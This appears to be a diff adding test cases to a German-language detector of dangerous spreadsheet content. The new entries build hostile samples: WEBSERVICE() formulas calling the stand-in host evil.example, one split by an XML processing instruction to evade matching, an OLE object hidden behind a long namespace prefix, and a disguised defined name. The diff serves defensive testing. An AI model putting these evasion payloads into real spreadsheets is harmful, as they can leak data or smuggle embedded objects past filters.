@@ -196,6 +196,12 @@ GEFAHREN: dict[str, Gefahr] = {
         ),
         Art.STEUER,
     ),
+    "OLE unter langem Vorsatz": _g(
+        lambda: im_blatt(f'<ä{"x" * 50}:oleObject xmlns:ä{"x" * 50}="x"/>', "</worksheet>"), Art.EINGEBETTET
+    ),
+    "WEBSERVICE(), zerteilt": _g(lambda: mit_formel('WEB<?x?>SERVICE("http://evil.example")'), Art.FORMEL),
+    "WEBSERVICE() in einer Formel": _g(lambda: mit_formel('1<f>WEBSERVICE("http://evil.example")</f>'), Art.FORMEL),
+    "Name, der läuft, mit Leerzeichen": _g(lambda: mit_name("x", "1", " function = '1'"), Art.NAME, haelt=()),
     "OLE im Blatt": _g(lambda: im_blatt(_OLE_ELEMENT, "</worksheet>"), Art.EINGEBETTET),
     "Steuerelemente im Blatt": _g(
         lambda: im_blatt('<controls><control shapeId="1"/></controls>', "</worksheet>"), Art.STEUER
